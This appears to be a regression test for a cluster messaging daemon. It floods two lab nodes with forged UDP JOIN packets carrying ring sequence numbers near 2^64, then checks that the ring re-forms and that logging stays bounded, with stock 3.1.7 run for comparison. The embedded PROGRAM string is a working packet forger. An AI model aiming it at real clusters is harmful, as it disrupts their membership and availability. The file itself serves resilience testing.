import t from 'tap';
import { describe, FULL, skipReason } from '../interop/lab/cases.ts';
import { Lab } from '../interop/lab/lab.ts';
import type { DaemonKind } from '../interop/lab/node.ts';

/**
 * A listed address of a ring without encryption forges JOINs of its node, with ring sequences up to the end of the numbers. Ours forms
 * the ring again when it stops, and after a restart of all. Stock 3.1.7 with numbers near 2^64 formed it at once after the attack; after the
 * restart it did in one run of two, and in the other not within 15 s.
 */
const SECONDS = FULL ? 10 : 1;
const STOCK_WAIT_MS = 15_000;
/** What the log lets through of one kind: 256 at once, one a second after that. */
const LINES_MAX = 256 + SECONDS + 60;
const PROGRAM = `
const { createSocket } = require('node:dgram');
const [, victims, seconds, end] = process.argv;
const socket = createSocket('udp4');
const until = Date.now() + 1000 * Number(seconds);
const last = BigInt(end);
const join = Buffer.alloc(45);
join.writeUInt16LE(0xc070, 0);
join.set([3, 3, 0, 3], 2);
[3, 3, 0].forEach((word, i) => join.writeUInt32LE(word, 13 + 4 * i));
[1, 2, 3].forEach((node, i) => join.writeUInt32LE(node, 33 + 4 * i));
let sent = 0;
const burst = () => {
  for (let step = 1n; step <= 64n; step++) {
    join.writeBigUInt64LE(step === 64n ? last : step * (last / 64n), 25);
    for (const victim of victims.split(',')) socket.send(Buffer.from(join), 5405, victim, () => sent++);
  }
  if (Date.now() < until) setTimeout(burst, 5);
  else setTimeout(() => { console.log(sent); process.exit(0); }, 200);
};
burst();
`;

const cases: readonly (readonly [DaemonKind, bigint])[] = [
  ['ours', 2n ** 52n],
  ['ours', 2n ** 64n - 8n],
  ['stock', 2n ** 64n - 8n],
];
for (const [kind, end] of cases) {
  const kinds = [kind, kind, kind];
  t.test(
    `JOINs up to ${end.toString(16)}: ${describe(kinds)}`,
    { skip: skipReason(kinds, kind === 'stock') },
    async (t) => {
      const lab = await Lab.create({ transport: 'udpu', tokenMs: 1000 }, kinds);
      t.teardown(() => lab.close());
      const members = lab.nodes.slice(0, 2);
      for (const node of members) node.startDaemon();
      await lab.waitRing(members, 60_000);
      const attacker = lab.node(3).space;
      const victims = members.map(({ plan }) => plan.addresses[0]).join(',');
      const args = ['-e', PROGRAM, victims, `${SECONDS}`, `${end}`];
      const sent = Number(await attacker.must(process.execPath, args, { timeoutMs: (SECONDS + 20) * 1000 }));
      t.ok(sent > 500, `${sent} JOINs sent`);
      const forms = async (): Promise<boolean> =>
        lab.waitRing(members, kind === 'ours' ? 60_000 : STOCK_WAIT_MS).then(
          () => true,
          () => false,
        );
      if (kind === 'ours' && end > 2n ** 52n) {
        const dropped = Number(await lab.node(1).cmap('rondo.dropped.totem.bad_ring_seq', 'stats'));
        t.ok(dropped > 100, `${dropped} of them counted as dropped`);
      }
      const after = await forms();
      for (const node of members) await node.stopDaemon();
      for (const node of members) node.startDaemon();
      const restarted = await forms();
      if (kind === 'stock') {
        t.comment(`stock: after the attack ${after}, after a restart ${restarted}`);
        return;
      }
      t.ok(after, 'the ring forms again when the attack is over');
      t.ok(restarted, 'and after a restart of all');
      const lines = members.map((node) => node.log(true).match(/Waiting for ring sequence/g)?.length ?? 0);
      for (const count of lines) t.ok(count < LINES_MAX, `${count} lines about waiting for the disk for ${sent} JOINs`);
    },
  );
}
